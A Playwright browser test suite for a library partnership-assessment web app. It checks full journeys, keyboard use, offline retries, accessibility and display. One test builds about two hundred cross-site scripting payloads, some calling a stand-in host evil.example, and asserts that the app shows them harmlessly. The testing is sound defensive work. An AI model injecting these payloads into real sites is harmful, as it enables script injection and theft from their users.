"""In a real browser: whole journeys with scripts, without them and by keyboard; hostile names; every page for all."""

import re
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from web_pages import LIBRARY, SERVICE, Served
from web_published import PATIENCE, Shown, Static, needs_published

from assessor import bank
from assessor.store import Store
from assessor.usecases import transfer

CHROMIUM = shutil.which("chromium")
pytestmark = [pytest.mark.browser, pytest.mark.skipif(not CHROMIUM, reason="Chromium is not installed")]

sync_api = pytest.importorskip("playwright.sync_api")
PHONE = {"width": 360, "height": 740}


@pytest.fixture(scope="module")
def chromium() -> Iterator[object]:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--disable-quic"]
        )
        yield browser
        browser.close()


class Watched:
    """A page, and what it asked for and complained of."""

    def __init__(self, page, url: str) -> None:
        self.page, self.keys, self.url = page, page.keyboard, url
        self.asked: list[str] = []
        self.loads: list[str] = []
        self.complaints: list[str] = []
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("request", lambda request: self.loads.append(request.url) if request.resource_type == "document" else 0)
        page.on("console", lambda said: self.complaints.append(said.text) if said.type in ("error", "warning") else 0)
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("dialog", lambda dialog: (self.complaints.append("dialog"), dialog.dismiss()))

    def heading(self) -> str:
        return self.page.locator("h1").inner_text()

    def elsewhere(self) -> list[str]:
        return [url for url in self.asked if not url.startswith((self.url, "data:", "blob:"))]


@pytest.fixture
def browse(chromium, served: Served) -> Iterator[Callable[..., Watched]]:
    contexts = []

    def opened(**how) -> Watched:
        context = chromium.new_context(**{"viewport": PHONE, "locale": "en-GB", **how})
        contexts.append(context)
        watched = Watched(context.new_page(), served.url)
        watched.page.set_default_timeout(5_000)
        watched.page.goto(f"{served.url}/in/{served.house.sessions.secret}")
        watched.page.wait_for_url(f"{served.url}/")
        return watched

    yield opened
    for context in contexts:
        context.close()


@dataclass(frozen=True)
class Librarian:
    """One librarian's pages, wherever they run."""

    #: Opens them, with what was answered so far.
    open: Callable[..., Watched]
    #: What her latest collaboration was given.
    responses: Callable[[], dict[str, str]]


@pytest.fixture
def own_server(browse) -> Librarian:
    return Librarian(browse, lambda: dict(_latest().responses))


@pytest.fixture
def published_folder(chromium, static: Static, tmp_path: Path) -> Iterator[Librarian]:
    """The same pages in a published folder, in the frame of its shell."""
    shells: list[Shown] = []

    def opened(**how) -> Watched:
        visit = chromium.new_context(**{"viewport": PHONE, "locale": "en-GB", **how})
        visit.set_default_timeout(PATIENCE)
        page = visit.new_page()
        watched = Watched(page, static.address.rstrip("/"))
        shells.append(Shown(page, static.address).start())
        with Store.open() as store:
            data = transfer.export_assessments(store, LIBRARY) if store.libraries() else b""
        if data:
            shells[-1].open(data)
            shells[-1].frame.get_by_text("Example School").first.wait_for()
        watched.page = next(each for each in page.frames if each.parent_frame)
        return watched

    def responses() -> dict[str, str]:
        (tmp_path / "saved.json").write_bytes(shells[-1].save())
        with Store.open() as store, (tmp_path / "saved.json").open("rb") as saved:
            transfer.import_assessments(store, saved, "saved.json")
        return dict(_latest().responses)

    yield Librarian(opened, responses)
    for shell in shells:
        shell.page.context.close()


@pytest.fixture(params=["own_server", pytest.param("published_folder", marks=needs_published)])
def librarian(request: pytest.FixtureRequest) -> Librarian:
    return request.getfixturevalue(request.param)


def _latest():
    with Store.open(write=False) as store:
        return store.assessments(library=LIBRARY)[-1]


def _filled(library: str = LIBRARY, party: str = "Example School", undertaking: str = "Evenings") -> str:
    """A collaboration answered in whole; the address of its assessment."""
    instrument = bank.open_bank("dokk1").instrument
    with Store.open() as store:
        collaboration = store.add_collaboration(library, party, undertaking)
        id_ = store.begin_assessment(collaboration.id, instrument, bank.open_bank("dokk1").snapshot)
        for kind, value in (("gut", "network"), ("wanted", "strategic")):
            store.record_entry(id_, kind, "", value)
        for item, option in SERVICE.items():
            store.record_entry(id_, "response", item, option)
        store.record_entry(id_, "note", "creation", "A note to this")
        store.record_entry(id_, "gains", "", instrument.gains[0])
    return f"/a/{id_}"


def _walk(watched: Watched) -> None:
    """From an empty store to a verdict, by what is written on the page."""
    page = watched.page
    page.get_by_label("What is your library called?").fill(LIBRARY)
    page.get_by_role("button", name="Begin").click()
    page.get_by_role("link", name="A new collaboration").click()
    page.get_by_label("What is the other party called?").fill("Example School")
    page.get_by_label("What do you do together?").fill("Evenings")
    page.get_by_role("button", name="Continue", exact=True).click()
    for ending, value in (("gut", "network"), ("mode", "full")):
        page.wait_for_url(f"**/{ending}")
        page.locator(f"button[value={value}]").click()
    for item, option in SERVICE.items():
        page.wait_for_url(f"**/q/{item}")
        page.locator(f"button[value={option}]").click()
        if item == "agreement":
            page.wait_for_url("**/ends/agreement")
            page.get_by_role("button", name="Until further notice").click()
    page.wait_for_url("**/gains")
    page.get_by_label("None of these").check()
    page.get_by_role("button", name="Continue", exact=True).click()
    page.wait_for_url("**/check")
    page.get_by_role("link", name="Everything is right").click()
    page.wait_for_url("**/verdict")


def test_a_journey_with_scripts_loads_no_page_anew(librarian: Librarian):
    watched = librarian.open(has_touch=True)
    _walk(watched)

    assert watched.heading() == "Service-based partnership"
    assert len(watched.loads) == 2  # what lets in, be it the secret's page or the shell, and the first one
    assert (watched.complaints, watched.elsewhere()) == ([], [])
    assert librarian.responses() == SERVICE


def test_a_journey_without_scripts_comes_to_the_same(browse):
    watched = browse(java_script_enabled=False)
    _walk(watched)

    assert watched.heading() == "Service-based partnership"
    assert _latest().responses == SERVICE
    assert len(watched.loads) > 20
    assert watched.elsewhere() == []


def test_a_journey_by_keyboard_alone(librarian: Librarian):
    watched = librarian.open()
    page, keys = watched.page, watched.keys

    def tab_to(selector: str, back: bool = False) -> None:
        for _ in range(40):
            if page.evaluate("selector => document.activeElement?.matches(selector)", selector):
                return
            keys.press("Shift+Tab" if back else "Tab")
        raise AssertionError(f"{selector} is not reached by Tab on {page.url}")

    tab_to("#name")
    keys.type(LIBRARY)
    keys.press("Enter")
    page.wait_for_selector("a[href$='/new']")
    tab_to("a[href$='/new']")
    keys.press("Enter")
    page.wait_for_selector("#party")
    tab_to("#party")
    keys.type("Example School")
    keys.press("Enter")
    for ending, value in (("gut", "network"), ("mode", "short")):
        page.wait_for_url(f"**/{ending}")
        _choose(page, keys, tab_to, value)
    while True:
        page.wait_for_url(lambda url: "/q/" in url or "/ends/" in url or url.endswith("/check"))
        if page.url.endswith("/check"):
            break
        before = page.url
        asked = {**SERVICE, "price": "cost"} if "/q/" in before else {"agreement": "open"}
        _choose(page, keys, tab_to, asked[before.rpartition("/")[2]])
        page.wait_for_url(lambda url, before=before: url != before)
    tab_to("a.button.main")
    keys.press("Enter")
    page.wait_for_url("**/verdict")

    assert watched.heading() == "Service-based partnership"


def _choose(page, keys, tab_to, value: str) -> None:
    """By Tab and Enter; arrow keys on the way choose nothing."""
    at = page.url
    tab_to("button[name=response]")
    keys.press("ArrowDown")
    keys.press("ArrowUp")
    assert page.url == at
    tab_to(f"button[name=response][value={value}]")
    keys.press("Enter")


def test_what_cannot_be_sent_waits_counted_and_is_sent_once_when_the_server_is_back(browse, served):
    address = _filled()
    watched = browse()
    page = watched.page
    page.goto(f"{served.url}{address}/q/track?then=check")
    served.stop()
    page.locator("button[value=success]").click()
    page.wait_for_selector("#unsent:not([hidden])")
    waiting = page.locator("#unsent").inner_text()
    served.start()
    page.wait_for_url("**/check", timeout=15_000)
    history = [entry.value for entry in _latest().history if entry.item == "track"]

    assert waiting == "1 answer not sent yet. Trying again …"
    assert history == ["some", "success"]
    assert page.locator("#unsent").inner_text() == "Everything is saved."


def test_an_answer_waits_for_a_session_that_is_gone_and_is_sent_once_let_in_again(browse, served):
    address = _filled()
    watched = browse()
    page = watched.page
    page.goto(f"{served.url}{address}/q/track?then=check")
    served.house.sessions.end_all_sessions()
    page.locator("button[value=success]").click()
    page.wait_for_selector("#unsent:not([hidden])")
    waiting = page.locator("#unsent").inner_text()
    page.context.new_page().goto(f"{served.url}/in/{served.house.sessions.secret}")
    page.wait_for_url("**/check", timeout=15_000)

    assert waiting.startswith("Not sent yet: the program has been restarted.")
    assert [entry.value for entry in _latest().history if entry.item == "track"] == ["some", "success"]


def test_an_answer_whose_reply_was_cut_off_is_sent_again_and_kept_once(browse, served):
    address = _filled()
    watched = browse()
    page = watched.page
    page.goto(f"{served.url}{address}/q/track?then=check")
    cut: list[int] = []

    def kept_and_cut(route) -> None:
        if len(cut) < 2:
            cut.append(route.fetch(max_redirects=0).status)
            route.abort("connectionreset")
        else:
            route.continue_()

    page.route("**/q/track", kept_and_cut)
    page.locator("button[value=success]").click()
    page.wait_for_url("**/check", timeout=15_000)

    assert cut == [303, 303]
    assert [entry.value for entry in _latest().history if entry.item == "track"] == ["some", "success"]


def test_a_portal_that_answers_in_our_place_has_saved_nothing(browse, served):
    address = _filled()
    watched = browse()
    page = watched.page
    page.goto(f"{served.url}{address}/q/track?then=check")
    page.route("**/q/track", lambda route: route.fulfill(content_type="text/html", body="<h1>Pay here</h1>"))
    page.locator("button[value=success]").click()
    page.wait_for_selector("#unsent:not([hidden])")

    assert watched.heading() != "Pay here"
    assert _latest().responses["track"] == "some"


@pytest.mark.parametrize(
    ("language", "scheme", "width"),
    [
        ("sv", "light", 320),
        ("en", "dark", 1280),
        pytest.param("fi", "light", 320, marks=pytest.mark.full),
        pytest.param("da", "dark", 320, marks=pytest.mark.full),
        pytest.param("nb", "light", 1280, marks=pytest.mark.full),
    ],
)
def test_axe_finds_nothing_and_nothing_runs_over_the_edge(librarian: Librarian, language, scheme, width):
    from axe_playwright_python.sync_playwright import Axe

    axe = Axe()
    address = _filled()
    collaboration = f"/c/{_latest().collaboration.id}"
    steps = [f"{address}/{step}" for step in ("gut", "wanted", "mode", "q/creation", "gains", "check", "verdict")]
    others = ["/", "/new", "/accessibility", "/close", "/library", "/nothing"]
    others += [f"{collaboration}/{page}" for page in ("rename", "erase")]
    found = {}
    how = {"viewport": {"width": width, "height": 740}, "reduced_motion": "reduce"}
    watched = librarian.open(locale=language, color_scheme=scheme, **how)
    for path in (*steps, *others):
        watched.page.goto(watched.url + path)
        rules = [each["id"] for each in axe.run(watched.page).response["violations"]]
        over = watched.page.evaluate("document.documentElement.scrollWidth > innerWidth")
        if rules or over or watched.page.evaluate("document.documentElement.lang") != language:
            found[path] = (rules, over)

    assert found == {}


def test_targets_are_large_enough_for_a_thumb(librarian: Librarian):
    address = _filled()
    watched = librarian.open()
    watched.page.goto(f"{watched.url}{address}/q/creation")
    boxes = [each.bounding_box() for each in watched.page.locator("main button:not(.hidden), summary").all()]

    assert [box for box in boxes if box["height"] < 44] == []


def test_a_person_goes_over_to_another_language_in_the_middle_and_loses_nothing(librarian: Librarian):
    address = _filled()
    watched = librarian.open(locale="en")
    page = watched.page
    page.goto(f"{watched.url}{address}/q/track?then=check")
    page.locator("summary", has_text="note").or_(page.locator("summary", has_text="Help")).first.click()
    page.fill("#note", "not sent yet")
    page.locator(".languages summary").click()
    page.get_by_role("button", name="Suomi").click()
    page.wait_for_selector("html[lang=fi]")

    assert page.input_value("#note") == "not sent yet"
    page.locator("button[value=success]").click()
    page.wait_for_url("**/check")
    assert librarian.responses()["track"] == "success"
    assert _latest().notes["track"] == "not sent yet"


PAYLOADS = [
    wrapping.format(act)
    for act in ("alert(1)", "fetch('http://evil.example')", "document.title='owned'", "location='http://evil.example'")
    for wrapping in (
        "<script>{}</script>",
        "<img src=x onerror={}>",
        '"><svg onload={}>',
        "'><body onload={}>",
        "javascript:{}",
        "</title><script>{}</script>",
        "</textarea><script>{}</script>",
        "<iframe srcdoc='<script>{}</script>'>",
        "<a href=javascript:{}>x</a>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
        "{{{{ {} }}}}",
        "<style>@import '{}'</style>",
        "<base href=http://evil.example>{}",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>{}",
        "<link rel=stylesheet href=http://evil.example>{}",
        "<form action=http://evil.example>{}",
        "<object data=http://evil.example>{}",
        "‮<b>{}</b>",
        "<!--{}-->",
        "&lt;script&gt;{}&lt;/script&gt;",
        "<template><script>{}</script></template>",
        "<svg><use href='http://evil.example#x'/>{}</svg>",
        "<input autofocus onfocus={}>",
        "<details open ontoggle={}>",
        "{{% {} %}}",
        "\\u003cscript\\u003e{}\\u003c/script\\u003e",
        "<video><source onerror={}>",
        "<marquee onstart={}>",
        "%3Cscript%3E{}%3C/script%3E",
        "<noscript><p title='</noscript><img src=x onerror={}>'>",
        "<xmp><script>{}</script>",
        "<plaintext>{}",
        "<select><script>{}</script>",
        "<button formaction=javascript:{}>",
        "<isindex action=javascript:{} type=submit>",
        "<embed src=javascript:{}>",
        "<a ping=http://evil.example href=#>{}",
        "<p style='background:url(http://evil.example)'>{}",
        "<image src onerror={}>",
        "<div/onmouseover={}>",
        "<b>{}",
        "]]>{}",
        "<?php {} ?>",
        "<s id=main>{}",
        "<s name=fetch>{}",
        "<s id=unsent data-whole>{}",
        "<input name=key value={}>",
        "<%= {} %>",
        "${{{}}}",
        "<s class=entry>{}",
    )
]


def test_two_hundred_hostile_names_are_shown_and_nothing_of_them_runs(browse, served):
    assert len(set(PAYLOADS)) >= 196
    with Store.open() as store:
        for at, payload in enumerate(PAYLOADS):
            store.add_collaboration(LIBRARY, f"{payload[:190]} {at}", payload)
    address = _filled(undertaking=PAYLOADS[0])
    with Store.open() as store:
        for payload in PAYLOADS:
            store.record_entry(address.removeprefix("/a/"), "note", "creation", payload)
        store.record_entry(address.removeprefix("/a/"), "note", "", "\n".join(PAYLOADS)[:4_000])
    watched = browse()
    shown = watched.page.locator("main").inner_text()
    for path in ("", f"{address}/q/creation", f"{address}/check", f"{address}/verdict"):
        watched.page.goto(f"{served.url}{path or '/'}")
    watched.page.goto(f"{served.url}{address}/q/creation")
    kept = watched.page.locator("#note").input_value()

    assert (watched.complaints, watched.elsewhere()) == ([], [])
    assert "<script>alert(1)</script>" in shown
    assert kept == PAYLOADS[-1]
    assert urlsplit(watched.page.url).netloc == f"127.0.0.1:{served.port}"


def test_the_browser_keeps_nothing_but_the_cookie(browse, served):
    watched = browse()
    kept = watched.page.evaluate("[localStorage.length, sessionStorage.length, document.cookie]")

    assert kept == [0, 0, ""]
    assert [cookie["name"] for cookie in watched.page.context.cookies()] == [served.house.owner_cookie]


def test_who_asked_for_less_motion_sees_none(browse, served):
    address = _filled()
    watched = browse(reduced_motion="reduce")
    watched.page.goto(f"{served.url}{address}/verdict")

    assert watched.page.evaluate("document.getAnimations().length") == 0


def test_forced_colours_leave_what_is_given_told_apart(browse, served):
    address = _filled()
    watched = browse(forced_colors="active")
    watched.page.goto(f"{served.url}{address}/q/creation")
    outlines = watched.page.evaluate(
        "[...document.querySelectorAll('button.tap')].map("
        "each => [each.classList.contains('given'), getComputedStyle(each).outlineStyle])"
    )

    assert {(given, style) for given, style in outlines} == {(True, "solid"), (False, "none")}


def test_a_page_looks_the_same_at_twice_the_size(browse, served, tmp_path: Path):
    """At 200 % a window of 1280 is as wide as 640: everything is still there and nothing is cut off."""
    address = _filled()
    watched = browse(viewport={"width": 640, "height": 400}, device_scale_factor=2)
    watched.page.goto(f"{served.url}{address}/verdict")
    cut = watched.page.evaluate(
        "[...document.querySelectorAll('main *')].filter(each => each.scrollWidth > each.clientWidth + 1"
        " && getComputedStyle(each).overflowX === 'hidden' && !each.classList.contains('hidden')).length"
    )

    assert cut == 0
    assert re.search("partnership", watched.heading())
